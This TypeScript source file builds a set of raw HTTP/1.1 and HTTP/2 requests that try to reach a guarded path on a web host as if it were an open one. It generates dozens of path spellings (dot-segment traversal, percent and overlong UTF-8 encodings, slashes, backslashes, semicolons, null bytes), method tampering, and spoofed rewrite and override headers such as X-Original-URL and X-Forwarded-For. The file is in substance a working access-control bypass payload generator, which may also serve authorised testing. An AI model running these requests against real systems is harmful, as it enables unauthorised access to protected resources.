import { http1, type RawRequest } from "./raw";

/** Two paths of a host, of which one is guarded, or all but one. */
export interface PathAttempt {
  readonly address: string;
  readonly host: string;
  /** A path that only some may enter. */
  readonly guarded: string;
  /** One that everyone may enter. */
  readonly open: string;
}

/** Requests that could reach a guarded path as if it were an open one, from a client with an address. */
export function pathBypasses({
  address,
  host,
  guarded,
  open,
}: PathAttempt): Record<string, (from: string) => RawRequest> {
  const common = { address, sni: host, timeoutMs: 5_000 };
  const text = (line: string, ...headers: string[]) => {
    return (from: string): RawRequest => ({ ...common, from, text: http1([`Host: ${host}`, ...headers], line) });
  };
  const http2 =
    (fields: Record<string, string>) =>
    (from: string): RawRequest => ({
      ...common,
      from,
      http2: { ":method": "GET", ":scheme": "https", ":authority": host, ...fields },
    });
  const get = `GET ${guarded} HTTP/1.1`;
  const targets = [...spellings(guarded, open), ...spellings(open, guarded)];
  return {
    ...Object.fromEntries(targets.map((target) => [`GET ${target}`, text(`GET ${target} HTTP/1.1`)])),
    ...Object.fromEntries(targets.map((target) => [`HTTP/2 ${target}`, http2({ ":path": target })])),
    ...Object.fromEntries(
      ["https", "http", "HTTPS", "ftp"].flatMap((scheme) =>
        [host, host.toUpperCase(), `${host}:443`].map((authority) => {
          const line = `GET ${scheme}://${authority}${guarded} HTTP/1.1`;
          return [line, text(line)];
        }),
      ),
    ),
    ...Object.fromEntries(
      ["HEAD", "POST", "OPTIONS", "TRACE", "PURGE", "get"].map((method) => [
        method,
        text(`${method} ${guarded} HTTP/1.1`),
      ]),
    ),
    ...Object.fromEntries(
      [
        ...["X-HTTP-Method-Override: OPTIONS", "X-HTTP-Method: HEAD", "X-Method-Override: PURGE"],
        ...[`X-Original-URL: ${open}`, `X-Rewrite-URL: ${open}`, `X-Envoy-Original-Path: ${open}`],
        ...[`X-Forwarded-Prefix: ${open}`, `X-Original-URI: ${open}`, `X-Forwarded-Uri: ${open}`],
        ...["X-Unified-Gateway-Ask: yes", "X-Forwarded-For: 192.168.1.10", `Referer: https://${host}${open}`],
      ].flatMap((header) => [
        [header, text(get, header)],
        [`${header}, on the open path`, text(`GET ${open} HTTP/1.1`, header.replace(open, guarded))],
      ]),
    ),
    "HTTP/2, a header of HTTP/1": http2({ ":path": guarded, "x-original-url": open }),
    "HTTP/2, an absolute path": http2({ ":path": `https://${host}${guarded}` }),
  };
}

/** One path, as it and its neighbours may be written. */
function spellings(path: string, other: string): string[] {
  const [, name = ""] = path.split("/");
  const letter = `%${name.charCodeAt(0).toString(16)}${name.slice(1)}`;
  return [
    path,
    ...[`${path}/`, `${path}//`, `${path}/x`, `${path}x`, `/x${path}`],
    ...[path.toUpperCase(), `/${name.charAt(0).toUpperCase()}${name.slice(1)}`],
    ...[
      `/.${path}`,
      `/x/..${path}`,
      `${path}/.`,
      `${path}/./x`,
      `${path}/..`,
      `${path}/../`,
      `${path}.`,
      `${path}/..${other}`,
    ],
    ...[`/x/%2e%2e${path}`, `/x/%2E.${path}`, `${path}/%2e%2e${other}`, `${path}/%2e%2e%2f${other.slice(1)}`],
    ...[
      `//${name}`,
      `///${name}`,
      `/x//..${path}`,
      `${path}//x`,
      `/\\${name}`,
      `/x\\..\\${name}`,
      `${path}\\..${other}`,
    ],
    ...[
      `/%2f${name}`,
      `/%2F${name}`,
      `${path}%2f`,
      `${path}%2Fx`,
      `/x%2f..${path}`,
      `${path}%2f..${other}`,
      `/%5c${name}`,
    ],
    ...[`${path};`, `${path};a=b`, `${path};a=b/x`, `/;${path}`, `/;a=b${path}`, `${path}/..;${other}`, `${path}/;/x`],
    ...[`/${letter}`, `/%25${letter.slice(1)}`, `/%u00${letter.slice(1)}`, `${path}%20`, `${path}%09`, `${path}%00`],
    ...[`${path}?`, `${path}?x=${other}`, `${path}%3f`, `${path}%3Fx`, `${path}#`, `${path}%23`, `?${path}`],
    ...[`${path}%0a`, `${path}%0d%0a`, `${path}%c0%af`, `${path}%c0%ae%c0%ae${other}`, `${path}&`, `${path}*`],
  ];
}
